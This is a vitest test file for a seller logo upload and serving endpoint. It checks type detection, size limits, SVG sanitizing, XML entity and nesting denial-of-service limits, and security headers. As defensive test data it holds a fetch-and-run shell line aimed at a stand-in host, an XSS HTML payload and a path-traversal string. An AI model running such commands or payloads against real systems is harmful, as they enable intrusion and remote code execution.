import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { requestOnHost } from '../../../../test/composer/repository-fixtures.js';
import {
  benignSvg,
  flatSvgOfSize,
  hostileSvgs,
  nestedGroupsSvg,
  pngOfSize,
  svgNestedToLevel,
  tinyGif,
  tinyJpeg,
  tinyPng,
  tinyWebp,
} from '../../../../test/support/logo-fixtures.js';
import { readStored } from '../../../../test/support/packages.js';
import { type SignedIn, signInSeller } from '../../../../test/support/sessions.js';
import { startTestApp, type TestApp } from '../../../../test/support/test-app.js';
import { brandingMessages, LOGO_MAX_BYTES, LOGO_PATH_PREFIX } from '../../../contract/branding.js';
import { svgLimits } from './svg-limits.js';

// POST /api/user/upload-logo-temp and GET /api/branding/logos/...: the type decided by content, the 5 MB limit at
// its exact boundary, SVGs stored inert, and the headers that keep a served logo from being anything but an image.

let app: TestApp;
let seller: SignedIn;
let otherSeller: SignedIn;

beforeAll(async () => {
  app = await startTestApp();
  seller = await signInSeller(app, { slug: 'acme' });
  otherSeller = await signInSeller(app, { slug: 'globex' });
});

afterAll(async () => {
  await app?.close();
});

type UploadAnswer = {
  status: number;
  body: { logoUrl?: string; error?: string; message?: string; suggestion?: string; status?: number };
};

async function upload(
  who: SignedIn,
  bytes: Buffer,
  options: { fileName?: string; type?: string; field?: string } = {},
): Promise<UploadAnswer> {
  const form = new FormData();
  form.append(
    options.field ?? 'logo',
    new Blob([new Uint8Array(bytes)], { type: options.type ?? 'image/png' }),
    options.fileName ?? 'logo.png',
  );
  const response = await fetch(new URL('/api/user/upload-logo-temp', app.baseUrl), {
    method: 'POST',
    headers: { cookie: who.client.cookieHeader(), 'x-csrf-token': await who.client.getCsrfToken() },
    body: form,
  });
  return { status: response.status, body: await response.json() };
}

function storageKeyOf(logoUrl: string): string {
  return `logos/${logoUrl.slice(LOGO_PATH_PREFIX.length)}`;
}

async function storedText(logoUrl: string): Promise<string> {
  return (await readStored(app, storageKeyOf(logoUrl)))!.toString('utf8');
}

function expectInvalidType(answer: UploadAnswer): void {
  expect(answer.status).toBe(400);
  expect(answer.body.error).toBe(brandingMessages.invalidFileType.error);
  expect(answer.body.message).toBe(brandingMessages.invalidFileType.message);
}

describe('accepted types', () => {
  it.each([
    ['png', tinyPng(), 'image/png'],
    ['jpg', tinyJpeg(), 'image/jpeg'],
    ['gif', tinyGif(), 'image/gif'],
    ['webp', tinyWebp(), 'image/webp'],
    ['svg', Buffer.from(benignSvg), 'image/svg+xml'],
  ])('stores a %s under the seller and serves it with its type', async (extension, bytes, contentType) => {
    // The name and the claimed type say nothing: the bytes decide.
    const answer = await upload(seller, bytes, { fileName: 'upload.bin', type: 'application/octet-stream' });
    expect(answer.status).toBe(200);
    expect(answer.body.logoUrl).toMatch(
      new RegExp(`^${LOGO_PATH_PREFIX}${seller.user.id}/[a-f0-9]{32}\\.${extension}$`),
    );
    const served = await fetch(new URL(answer.body.logoUrl!, app.baseUrl));
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe(contentType);
    if (extension !== 'svg') expect(Buffer.from(await served.arrayBuffer()).equals(bytes)).toBe(true);
  });

  it('gives every upload a new name', async () => {
    const first = await upload(seller, tinyPng());
    const second = await upload(seller, tinyPng());
    expect(first.body.logoUrl).not.toBe(second.body.logoUrl);
  });
});

describe('refused files', () => {
  it('refuses an ELF executable named logo.png', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120, 1)]);
    expectInvalidType(await upload(seller, elf, { fileName: 'logo.png', type: 'image/png' }));
  });

  it('refuses a shell script named logo.png', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
    expectInvalidType(await upload(seller, script, { fileName: 'logo.png', type: 'image/png' }));
  });

  it('refuses HTML named logo.svg and a PDF named logo.jpg', async () => {
    expectInvalidType(
      await upload(seller, Buffer.from('<html><script>alert(1)</script></html>'), {
        fileName: 'logo.svg',
        type: 'image/svg+xml',
      }),
    );
    expectInvalidType(
      await upload(seller, Buffer.from('%PDF-1.7\n%...'), { fileName: 'logo.jpg', type: 'image/jpeg' }),
    );
  });

  it('refuses a request without the logo field', async () => {
    expectInvalidType(await upload(seller, tinyPng(), { field: 'image' }));
  });

  it('refuses uploads from signed-out visitors', async () => {
    const form = new FormData();
    form.append('logo', new Blob([new Uint8Array(tinyPng())]), 'logo.png');
    const response = await fetch(new URL('/api/user/upload-logo-temp', app.baseUrl), { method: 'POST', body: form });
    expect(response.status).toBe(401);
  });
});

describe('malformed forms', () => {
  it.each([
    ['a boundary that never appears', '--other\r\ncontent-disposition: form-data; name="logo"\r\n\r\nx'],
    ['a part header cut short', '--b0undary\r\ncontent-disposition: form-da'],
    [
      'a body that ends inside the file',
      '--b0undary\r\ncontent-disposition: form-data; name="logo"; filename="l.png"\r\ncontent-type: image/png\r\n\r\n\x89PNG',
    ],
  ])('answers 400 in the error shape for %s', async (_name, body) => {
    const response = await fetch(new URL('/api/user/upload-logo-temp', app.baseUrl), {
      method: 'POST',
      headers: {
        cookie: seller.client.cookieHeader(),
        'x-csrf-token': await seller.client.getCsrfToken(),
        'content-type': 'multipart/form-data; boundary=b0undary',
      },
      body,
    });
    expect(response.status).toBe(400);
    const answer = (await response.json()) as UploadAnswer['body'] & { code?: string };
    expect(answer).toMatchObject({ status: 400, code: 'BAD_REQUEST' });
    expect(answer.message).toBeTruthy();
  });
});

describe('the 5 MB limit', () => {
  it('accepts exactly 5 MB', async () => {
    const answer = await upload(seller, pngOfSize(LOGO_MAX_BYTES));
    expect(answer.status).toBe(200);
    expect((await app.ctx.storage.head(storageKeyOf(answer.body.logoUrl!)))?.size).toBe(LOGO_MAX_BYTES);
  });

  it('refuses 5 MB and one byte with the spec’s words', async () => {
    const answer = await upload(seller, pngOfSize(LOGO_MAX_BYTES + 1));
    expect(answer.status).toBe(413);
    expect(answer.body.error).toBe(brandingMessages.fileTooLarge.error);
    expect(answer.body.message).toBe(brandingMessages.fileTooLarge.message);
  });
});

describe('SVG sanitizing', () => {
  // A seller of its own: uploads are rate-limited per seller.
  let svgSeller: SignedIn;
  beforeAll(async () => {
    svgSeller = await signInSeller(app, { slug: 'svg-maker' });
  });

  it('keeps a benign SVG visually intact', async () => {
    const answer = await upload(svgSeller, Buffer.from(benignSvg), { fileName: 'logo.svg', type: 'image/svg+xml' });
    expect(answer.status).toBe(200);
    const stored = await storedText(answer.body.logoUrl!);
    expect(stored).toContain('<rect class="mark"');
    expect(stored).toContain('<path d="M50 10 L90 10 L70 30 Z"');
    expect(stored).toContain('<use xlink:href="#dot"');
  });

  it.each(hostileSvgs)('neutralizes $name', async ({ svg, dangers }) => {
    const answer = await upload(svgSeller, Buffer.from(svg), { fileName: 'logo.svg', type: 'image/svg+xml' });
    if (answer.status === 400) {
      // Refused outright (entity declarations): nothing was stored.
      expectInvalidType(answer);
      return;
    }
    expect(answer.status).toBe(200);
    const stored = (await storedText(answer.body.logoUrl!)).toLowerCase();
    for (const danger of dangers) expect(stored, danger).not.toContain(danger);
    expect(stored).toMatch(/<(rect|circle)\b/);
  });
});

describe('SVG logos that would stop the server (issue 8)', () => {
  // Before the limits, the first two blocked every request for 73 s and for over 7 minutes (1.26 GB).
  let attacker: SignedIn;
  beforeAll(async () => {
    attacker = await signInSeller(app, { slug: 'trial-attacker' });
  });

  const uploadSvg = (svg: string, who: SignedIn = attacker) =>
    upload(who, Buffer.from(svg), { fileName: 'logo.svg', type: 'image/svg+xml' });

  function expectRefusedFor(answer: UploadAnswer, limit: string): void {
    expectInvalidType(answer);
    expect(answer.body.status).toBe(400);
    expect(answer.body.suggestion).toContain(limit);
  }

  it('refuses 10,000 nested groups, naming the depth limit, and answers /api/health meanwhile', async () => {
    const [answer, health] = await Promise.all([
      uploadSvg(nestedGroupsSvg(10_000)),
      fetch(new URL('/api/health', app.baseUrl)),
    ]);
    expectRefusedFor(answer, `at most ${svgLimits.maxDepth} levels deep`);
    expect(health.status).toBe(200);
  });

  it('refuses a 4 MiB flat SVG, naming the size limit, and answers /api/health meanwhile', async () => {
    const [answer, health] = await Promise.all([
      uploadSvg(flatSvgOfSize(4 * 1024 * 1024)),
      fetch(new URL('/api/health', app.baseUrl)),
    ]);
    expectRefusedFor(answer, 'at most 512 KB');
    expect(health.status).toBe(200);
  });

  it('stores nesting at the depth limit and refuses one level more', async () => {
    const atLimit = await uploadSvg(svgNestedToLevel(svgLimits.maxDepth));
    expect(atLimit.status).toBe(200);
    expect(await storedText(atLimit.body.logoUrl!)).toContain('<g><rect width="1" height="1"/></g>');
    expectRefusedFor(await uploadSvg(svgNestedToLevel(svgLimits.maxDepth + 1)), 'levels deep');
  });

  it('refuses entity expansion (billion laughs) with the reason', async () => {
    const billionLaughs = hostileSvgs.find((entry) => entry.name.startsWith('billion laughs'))!;
    expectRefusedFor(await uploadSvg(billionLaughs.svg), 'entity declarations');
  });

  it('still stores an ordinary logo, sanitized', async () => {
    const answer = await uploadSvg(benignSvg);
    expect(answer.status).toBe(200);
    const stored = await storedText(answer.body.logoUrl!);
    expect(stored).toContain('<rect class="mark"');
    expect(stored).not.toContain('DOCTYPE');
  });

  it('keeps the saved brand when a logo is refused', async () => {
    const owner = await signInSeller(app, { slug: 'keeps-brand' });
    const logo = await uploadSvg(benignSvg, owner);
    const saved = await owner.client.put('/api/user/default-branding', {
      brandName: 'Keeps Brand',
      brandLogo: logo.body.logoUrl,
    });
    expect(saved.status).toBe(200);
    const before = await (await owner.client.get('/api/user/default-branding')).json();

    expectRefusedFor(await uploadSvg(nestedGroupsSvg(10_000), owner), 'levels deep');
    expectRefusedFor(await uploadSvg(flatSvgOfSize(4 * 1024 * 1024), owner), '512 KB');

    const after = await (await owner.client.get('/api/user/default-branding')).json();
    expect(after).toEqual(before);
    expect(after.brandLogo).toBe(logo.body.logoUrl);
    expect((await fetch(new URL(logo.body.logoUrl!, app.baseUrl))).status).toBe(200);
  });
});

describe('serving', () => {
  it('serves a logo with nosniff, a sandboxing CSP and a long cache, on the app host and on package hosts', async () => {
    const { body } = await upload(seller, Buffer.from(benignSvg), { fileName: 'logo.svg', type: 'image/svg+xml' });
    for (const host of ['localhost', 'acme.composer.localhost', 'composer.localhost']) {
      const response = await requestOnHost(app, host, body.logoUrl!);
      expect(response.status, host).toBe(200);
      expect(response.headers['content-type']).toBe('image/svg+xml');
      expect(response.headers['x-content-type-options']).toBe('nosniff');
      expect(response.headers['content-security-policy']).toBe(
        "default-src 'none'; style-src 'unsafe-inline'; sandbox",
      );
      expect(response.headers['cache-control']).toBe('public, max-age=31536000, immutable');
      expect(response.body.toString('utf8')).toBe(await storedText(body.logoUrl!));
    }
  });

  it('answers 404 for unknown and malformed logo names', async () => {
    for (const path of [
      `${LOGO_PATH_PREFIX}${seller.user.id}/${'0'.repeat(32)}.png`,
      `${LOGO_PATH_PREFIX}${seller.user.id}/..%2F..%2Fsecret.key`,
      `${LOGO_PATH_PREFIX}not-a-user/${'0'.repeat(32)}.png`,
    ]) {
      const response = await fetch(new URL(path, app.baseUrl));
      expect(response.status, path).toBe(404);
    }
  });

  it("keeps each seller's uploads in a folder of their own", async () => {
    const mine = await upload(seller, tinyPng());
    const theirs = await upload(otherSeller, tinyPng());
    expect(mine.body.logoUrl).toContain(`/${seller.user.id}/`);
    expect(theirs.body.logoUrl).toContain(`/${otherSeller.user.id}/`);
    // Another seller cannot put someone else's upload into their brand.
    const response = await otherSeller.client.put('/api/user/default-branding', { brandLogo: mine.body.logoUrl });
    expect(response.status).toBe(400);
    expect((await response.json()).message).toContain('brandLogo');
  });
});
